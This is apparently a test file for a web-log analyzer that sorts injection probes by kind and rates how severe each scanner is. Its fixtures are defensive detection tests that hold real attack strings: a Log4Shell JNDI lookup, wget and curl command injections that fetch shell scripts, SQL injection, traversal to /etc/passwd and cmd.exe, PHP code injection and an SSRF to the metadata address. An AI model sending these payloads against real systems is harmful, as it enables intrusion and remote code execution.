/**
 * Issue 19, items 3, 7 (the scanner's severity) and 8: scanners without the usual paths (scanner agents, injection
 * probes by kind in path and query, non-HTTP bytes on an HTTP listener), probes that all failed as low background
 * and probes answered with content or 5xx as high, and a scanner's repetitions not called a looping session.
 * Traffic is a quiet site (a handful of visitors) with payloads copied from real scans (w3af, sqlmap, Nuclei,
 * Netsparker, Log4Shell and router worms).
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { EnrichedRecord } from '../../src/enrich/types';
import fc from 'fast-check';
import { kindNames, probeKinds, probeKindsFull, PROBE_KINDS } from '../../src/enrich/path-class';
import { classifyAgent, scannerName } from '../../src/enrich/user-agent';
import { parseRequestLine } from '../../src/formats/shared/request';
import type { ReportFinding } from '../../src/report/types';
import { json, lbua } from '../helpers/cli';
import { lbuaIn } from '../helpers/in-process';
import { background, detect, MINUTE, rec, steady } from './harness';

/** A quiet site: 8 visitors, one request every few minutes each, for two hours. */
const QUIET = background({ minutes: 120, clients: 8, perClientPerMinute: 0.3, seed: 19 });
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';

/** A request for `target` (path and query) from `ip`, answered `status` with `bytes`. */
function ask(t: number, ip: string, target: string, status: number, bytes: number, userAgent = CHROME, method = 'GET'): EnrichedRecord {
  const q = target.indexOf('?');
  const path = q < 0 ? target : target.slice(0, q);
  return rec(t, { clientIp: ip, userAgent, method, path, query: q < 0 ? null : target.slice(q + 1), route: path, endpoint: `${method} ${path}`, status, backendStatus: status, bytesOut: bytes });
}

describe('injection probes by kind (path and query decoded once)', () => {
  it.each([
    ['task=a%27b%22c%27d%22', 'quote-probe'],
    ['searchword=o1rn8%27o1rn8', 'quote-probe'],
    ['view=zu4Iw%3C%2F-%3E', 'xss'],
    ['redirect=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E', 'xss'],
    ['id=1%27%20AND%201%3D1--%20-', 'sql-injection'],
    ['id=1+UNION+ALL+SELECT+NULL,NULL--', 'sql-injection'],
    ['id=1%27%20AND%20SLEEP%285%29--', 'sql-injection'],
    ['page=..%2f..%2f..%2fetc%2fpasswd%00', 'traversal'],
    ['page=php%3a%2f%2ffilter%2fresource%3dindex', 'file-inclusion'],
    ['x=${jndi:ldap://45.155.205.233:12344/a}', 'log4shell'],
    ['x=${${lower:j}ndi:ldap://x/a}', 'log4shell'],
    ['host=127.0.0.1;wget%20http://45.9.148.1/x.sh', 'command-injection'],
    ['q=$(curl+x.sh)', 'command-injection'],
    ['name={{7*7}}', 'template-injection'],
    ['name=${{7*7}}', 'template-injection'],
    ['name=#{7*7}', 'template-injection'],
    ['c=<?php+system($_GET[1]);?>', 'code-injection'],
    ['url=http://169.254.169.254/latest/meta-data/', 'ssrf'],
  ])('%s is %s', (query, kind) => {
    expect(kindNames(probeKinds(query, true))).toContain(kind);
  });

  it('finds them in paths too (router worms, traversal to a shell)', () => {
    expect(kindNames(probeKinds('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', false))).toEqual(['traversal', 'command-injection']);
    expect(kindNames(probeKinds('/DVWA/vulnerabilities/brute/\'%22@--%3E%3C/style%3E%3C/scRipt%3E', false))).toContain('xss');
  });

  it.each([
    'q=shoes&page=2', 'q=O%27Reilly+books', 'name=it%27s+%22great%22', 'color=%23fff&json=%7B%22a%22%3A1%7D', 'utm_source=news&id=5&sort=price',
    'next=%2Faccount%2Forders', 'q=rock+%27n%27+roll', 'ref=https%3A%2F%2Fexample.com%2F', 'tmpl=component&print=1&page=',
  ])('finds nothing in an ordinary query: %s', (query) => {
    expect(probeKinds(query, true)).toBe(0);
  });

  it.each([
    // An Angular page that failed to render its template (a real shop's log), a broken link, spam prose.
    '/image/%7B%7BbasketItem.id%7D%7D', '/misc/nmh//%22file://$file/%22', "/presentations/vim/+Result:+i+never+really+liked+c%27s+assert%28%29+feature.",
  ])('finds nothing in real paths that only look odd: %s', (path) => {
    expect(probeKinds(path, false)).toBe(0);
  });

  it('decodes once: a double-encoded quote is not a quote, a double-encoded dot pair is traversal', () => {
    expect(probeKinds('id=1%2527%2520or%25201%253D1', true)).toBe(0);
    expect(kindNames(probeKinds('/%252e%252e/etc', false))).toEqual(['traversal']);
  });

  it('lets through every text a kind matches (the prefilter that spares ordinary queries the table)', () => {
    const piece = fc.constantFrom("'", '"', '%27', '%22', '%2527', '<', '%3C', 'script', '/', '%2f', '%2F', '.', '..', '%2e', '%c0%af', '\\', '%5c', '$', '{', '}', '%7B',
      '(', ')', '%28', ';', '|', '&&', '`', '#', '%23', '%00', '=', '%3d', ' ', '+', '%20', 'or', 'OR', '1', 'union', 'select', 'sleep', 'jndi:', 'ldap://', 'etc', 'passwd',
      'php:', 'data:', 'cmd', '.exe', 'bin', 'sh', 'wget', 'id', 'eval', 'onerror', 'javascript:', 'alert', '169.254.169.254', 'a', 'x1y2z', '7*7', '__class__', '<%=', '{%', '%75', 'nion', '%6E', 'x%3d', 'd');
    fc.assert(fc.property(fc.array(piece, { maxLength: 10 }).map((p) => p.join('')), fc.boolean(), (text, query) => {
      expect(probeKinds(text, query)).toBe(probeKindsFull(text, query));
    }), { numRuns: 20_000 });
  });

  it('names every kind once', () => {
    expect(new Set(PROBE_KINDS.map(([n]) => n)).size).toBe(PROBE_KINDS.length);
  });
});

describe('scanner agents', () => {
  it.each([
    ['w3af.org', 'w3af'],
    ['Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; w3af.sf.net)', 'w3af'],
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap'],
    ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)', 'Nikto'],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Nuclei'],
    ['WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'WPScan'],
    ['Mozilla/5.0 zgrab/0.x', 'ZGrab'],
    ['Fuzz Faster U Fool v2.1.0-dev', 'ffuf'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Nmap'],
  ])('%s is %s, family scanner', (ua, name) => {
    expect(scannerName(ua)).toBe(name);
    expect(classifyAgent(ua)).toMatchObject({ family: 'scanner', agentClass: 'tool' });
  });

  it('leaves browsers, crawlers and internet surveys off the list', () => {
    for (const ua of [CHROME, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'curl/8.4.0']) expect(scannerName(ua)).toBeNull();
    expect(scannerName('Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)')).toBeNull();
    expect(classifyAgent('Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)').family).toBe('survey');
  });
});

describe('scanner: agents, probe kinds and severity (issue 19, items 3 and 7)', () => {
  const W3AF = ['/index.php/component/users/?task=a%27b%22c%27d%22', '/index.php/component/search/?searchword=zwg2h%3C%2F-%3Ezwg2h', '/index.php?format=o1rn8%27o1rn8'];
  const scanner = (fs: readonly ReportFinding[], ip: string): ReportFinding | undefined => fs.find((f) => f.subject.value === ip);

  it('finds a w3af scan without the usual paths: its agent, its probe kinds with evidence, high for probes answered with content and 5xx', () => {
    const scan = steady(40, 3, 20, (i, t) => (i % 4 === 3
      ? ask(t, '192.0.2.163', '/index.php/component/search/', 500, 2011, 'w3af.org', 'POST')
      : ask(t, '192.0.2.163', W3AF[i % 3] ?? '/', 200, 6120 + (i % 7), 'w3af.org')));
    const fs = detect('scanner', [...QUIET, ...scan]);
    const f = scanner(fs, '192.0.2.163');
    expect(f).toMatchObject({ severity: 'high', metrics: { scanner_agent: 'w3af', errors_5xx: 15, answered_2xx: 45 } });
    expect(String(f?.metrics['probe_kinds'])).toMatch(/quote-probe:\d+ xss:\d+/);
    expect(f?.title).toContain('w3af scanner');
    expect(f?.actions.some((a) => a['type'] === 'block')).toBe(true);
    // The evidence starts with the first request of each kind.
    expect(f?.evidence.length).toBeGreaterThanOrEqual(2);
  });

  it('calls a scanner whose probes all failed low background, with nothing to block', () => {
    const sqlmap = steady(30, 2, 20, (i, t) => ask(t, '45.83.64.12', `/product.php?id=1%27%20AND%20${i}%3D${i}--%20-`, 404, 196, 'sqlmap/1.7.2#stable (https://sqlmap.org)'));
    const f = scanner(detect('scanner', [...QUIET, ...sqlmap]), '45.83.64.12');
    expect(f).toMatchObject({ severity: 'low', actions: [], metrics: { probe_kinds: 'sql-injection:40', answered_2xx: 0, errors_5xx: 0 } });
    expect(f?.title).toContain('nothing it probed was served');
  });

  it('raises the same scanner to high when one probe is answered 2xx with content, or when the site answers it 5xx', () => {
    const base = steady(30, 2, 20, (i, t) => ask(t, '45.83.64.12', `/product.php?id=1%27%20AND%20${i}%3D${i}--%20-`, 404, 196, 'sqlmap/1.7.2#stable (https://sqlmap.org)'));
    const served = [...base, ask(33 * MINUTE, '45.83.64.12', '/product.php?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20users--', 200, 14_220, 'sqlmap/1.7.2#stable (https://sqlmap.org)')];
    expect(scanner(detect('scanner', [...QUIET, ...served]), '45.83.64.12')?.severity).toBe('high');
    const broke = [...base, ask(33 * MINUTE, '45.83.64.12', '/product.php?id=1%27%27', 500, 320, 'sqlmap/1.7.2#stable (https://sqlmap.org)')];
    expect(scanner(detect('scanner', [...QUIET, ...broke]), '45.83.64.12')).toMatchObject({ severity: 'high', metrics: { errors_5xx: 1 } });
  });

  it('takes a probe answered with the home page for the catch-all page (medium), not an answer', () => {
    const home = steady(5, 3, 1, (_i, t) => ask(t, '81.9.9.9', '/', 200, 5321));
    const probes = steady(30, 1, 12, (i, t) => ask(t, '185.224.128.17', i % 2 ? '/?x=${jndi:ldap://45.155.205.233:12344/a}' : '/?q={{7*7}}', 200, 5321));
    expect(scanner(detect('scanner', [...QUIET, ...home, ...probes]), '185.224.128.17')).toMatchObject({ severity: 'medium', metrics: { answered_2xx: 0, answered_catch_all: 12 } });
  });

  it('folds worm hosts each sending an exploit or two, all refused, into the one background finding (honeynet, Nimda)', () => {
    const nimda = ['/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir', '/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir'];
    const worms = Array.from({ length: 12 }, (_v, h) => nimda.map((p, k) => ask((10 + h * 7) * MINUTE + k * 1000, `${61 + h}.145.141.127`, p, 404, 296, '-'))).flat();
    // One of them sent a lower-case `get`, which Apache refuses with 501: the client's doing, not the site failing.
    worms.push(ask(95 * MINUTE, '64.171.12.75', '/scripts/..%c0%af..%c0%af/winnt/system32/cmd.exe?/c%20dir', 501, 0, '-', 'get'));
    const fs = detect('scanner', [...QUIET, ...worms]);
    expect(fs.map((f) => [f.severity, f.subject.value])).toEqual([['low', 'probes']]);
    expect(fs[0]?.metrics['addresses']).toBe(13);
    expect(fs[0]?.title).toContain('injection probes (traversal ×25, command-injection ×25)');
  });

  it('reports a scanner agent whatever paths it asks (low while nothing failed or was probed)', () => {
    const nikto = steady(50, 1, 5, (i, t) => ask(t, '91.92.93.94', ['/', '/about', '/contact', '/blog/', '/robots.txt'][i] ?? '/', 200, 4000, 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)'));
    expect(scanner(detect('scanner', [...QUIET, ...nikto]), '91.92.93.94')).toMatchObject({ severity: 'low', metrics: { scanner_agent: 'Nikto', attacks: 0 } });
  });

  it('reports non-HTTP bytes on the listener (TLS, SSH, RDP, SMB, SOCKS) as one finding with the addresses, instead of dropping them', () => {
    const line = (t: number, ip: string, raw: string): EnrichedRecord => {
      const p = parseRequestLine(raw);
      return rec(t, { clientIp: ip, method: p.method, path: p.path, protocol: p.protocol, route: '-', endpoint: '-', status: 400, bytesOut: 226, userAgent: null });
    };
    const odd = [
      ...steady(10, 1, 3, (i, t) => line(t, `198.51.100.${20 + i}`, '\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03')),
      line(20 * MINUTE, '203.0.113.9', 'SSH-2.0-Go'),
      line(21 * MINUTE, '203.0.113.9', '\\x03\\x00\\x00/*\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr'),
      line(22 * MINUTE, '203.0.113.10', '\\x00\\x00\\x00\\x85\\xffSMBr\\x00\\x00\\x00\\x00'),
      // A SOCKS5 greeting as Apache 2.0 logged it, raw (the Honeynet log, 211.196.223.10, 36 times).
      line(23 * MINUTE, '211.196.223.10', '\x05\x01'),
    ];
    const fs = detect('scanner', [...QUIET, ...odd]);
    expect(fs.map((f) => [f.severity, f.subject.value])).toEqual([['low', 'non-http']]);
    expect(fs[0]?.metrics).toMatchObject({ addresses: 6, requests: 7, tls_requests: 3, ssh_requests: 1, rdp_requests: 1, smb_requests: 1, socks_requests: 1 });
    expect(fs[0]?.title).toContain('TLS ×3 from 3 addresses');
    expect(fs[0]?.evidence.length).toBeGreaterThanOrEqual(4);
  });
});

describe('looping-session: a scanner is not a loop (issue 19, item 8)', () => {
  it('does not call a scanner at 1,000 requests a minute whose paths collapsed into /:var a looping session', () => {
    // A wordlist under /files/, past the templater's collapse: every request is GET /files/:var, each path new.
    const wordlist = steady(20, 3, 1000, (i, t) => rec(t, { clientIp: '45.95.147.236', userAgent: CHROME, path: `/files/w${i}`, route: '/files/:var', endpoint: 'GET /files/:var', status: 404 }));
    expect(detect('looping-session', [...QUIET, ...wordlist])).toEqual([]);
  });

  it('does not call a self-declared scanner repeating one endpoint with payloads a loop', () => {
    const sqlmap = steady(30, 2, 30, (i, t) => ask(t, '45.83.64.12', `/product.php?id=1%27%20AND%20${i}%3D${i}--`, 404, 196, 'sqlmap/1.7.2#stable (https://sqlmap.org)'));
    expect(detect('looping-session', [...QUIET, ...sqlmap])).toEqual([]);
  });

  it('does not call a worm re-sending its exploit, or a client asking the server to proxy to port 25, a loop (honeynet log shapes)', () => {
    const worm = steady(30, 1, 21, (_i, t) => ask(t, '12.162.161.222', '/scripts/nsiislog.dll', 404, 290, '-', 'POST'));
    expect(detect('looping-session', [...QUIET, ...worm])).toEqual([]);
    const proxy = steady(40, 2, 35, (_i, t) => rec(t, { clientIp: '218.78.209.64', userAgent: null, method: 'CONNECT', path: null, host: 'maila.microsoft.com', route: 'maila.microsoft.com:25', endpoint: 'CONNECT maila.microsoft.com:25', status: 405 }));
    expect(detect('looping-session', [...QUIET, ...proxy])).toEqual([]);
    const traversal = steady(50, 1, 25, (_i, t) => ask(t, '221.163.185.32', '/scripts/..%c1%9c../winnt/system32/cmd.exe', 404, 296, '-'));
    expect(detect('looping-session', [...QUIET, ...traversal])).toEqual([]);
  });

  it('still finds a WordPress redirect loop between its own admin pages (answered 302, not 4xx)', async () => {
    const wp = steady(60, 1, 40, (i, t) => ask(t, '86.133.61.99', i % 2 ? '/wp-login.php' : '/wp-admin/', 302, 0));
    expect(detect('looping-session', [...QUIET, ...wp])).toHaveLength(1);
  });

  it('still finds a client repeating the same concrete endpoints with errors', async () => {
    const retry = steady(30, 2, 30, (_i, t) => ask(t, '86.133.61.99', '/api/v1/cart', 503, 120, 'okhttp/4.12.0'));
    expect(detect('looping-session', [...QUIET, ...retry])).toHaveLength(1);
  });
});

describe('a lab site over two months (fixtures/probes), from the CLI', () => {
  const files = ['lab-site-2026-11.log', 'lab-site-2027-01.log'].map((f) => join(__dirname, '../../fixtures/probes', f));

  it('finds the w3af scan, sqlmap, the exploit sweep, Nuclei and the non-HTTP bytes, the same with one worker or two', async () => {
    // Spawned once (the CLI path), compared with a run in this process; its report is read below (it was run twice more).
    const one = lbua(['analyze', ...files, '--output', 'json', '--jobs', '1']);
    const two = await lbuaIn(['analyze', ...files, '--output', 'json', '--jobs', '2']);
    expect(two.stdout).toBe(one.stdout);
    const report = json(one) as { findings: ReportFinding[] };
    const fs = report.findings.filter((f) => f.detector === 'scanner');
    const by = new Map(fs.map((f) => [f.subject.value, f]));
    expect(by.get('192.0.2.163')).toMatchObject({ severity: 'high', metrics: { scanner_agent: 'w3af' } });
    expect(by.get('45.83.64.12')).toMatchObject({ severity: 'low', metrics: { scanner_agent: 'sqlmap', probe_kinds: 'sql-injection:40' } });
    expect(String(by.get('185.224.128.17')?.metrics['probe_kinds'])).toContain('log4shell');
    expect(by.get('167.94.138.44')).toMatchObject({ severity: 'high', metrics: { scanner_agent: 'Nuclei' } });
    expect(by.get('non-http')?.metrics).toMatchObject({ tls_requests: 5, ssh_requests: 1, rdp_requests: 1 });
    expect(report.findings.filter((f) => f.detector === 'looping-session')).toEqual([]);
  });
});

/** Public real scans (github.com/ocatak/apache-http-logs), unquoted into /tmp/s28/real-probes; skipped when absent. */
const REAL = process.env['LBUA_REAL_PROBES'] ?? '/tmp/s28/real-probes';
const real = existsSync(join(REAL, 'w3af.clean.log')) ? describe : describe.skip;

real('real scans against a lab site (ocatak/apache-http-logs)', () => {
  it('the probe-kind prefilter lets through every request of the three scans that a kind matches', () => {
    let matched = 0;
    for (const f of ['w3af.clean.log', 'netsparker.clean.log', 'acunetix.clean.log']) {
      if (!existsSync(join(REAL, f))) continue;
      for (const line of readFileSync(join(REAL, f), 'latin1').split('\n')) {
        const target = /"[A-Za-z]+ (\S+)/.exec(line)?.[1];
        if (target === undefined) continue;
        const q = target.indexOf('?');
        for (const [text, query] of [[q < 0 ? target : target.slice(0, q), false], [q < 0 ? null : target.slice(q + 1), true]] as const) {
          if (text === null) continue;
          const full = probeKindsFull(text, query);
          if (full !== 0) matched++;
          expect(probeKinds(text, query)).toBe(full);
        }
      }
    }
    expect(matched).toBeGreaterThan(1000);
  });

  it('finds the w3af scan by its agent and its quote and markup probes, high (answered 200 and 500)', async () => {
    const fs = (json(await lbuaIn(['analyze', join(REAL, 'w3af.clean.log'), '--output', 'json', '--detectors', 'scanner'])) as { findings: ReportFinding[] }).findings;
    const f = fs.find((x) => x.subject.value === '192.168.4.163');
    expect(f).toMatchObject({ severity: 'high', metrics: { scanner_agent: 'w3af' } });
    expect(String(f?.metrics['probe_kinds'])).toMatch(/quote-probe/);
  });
});
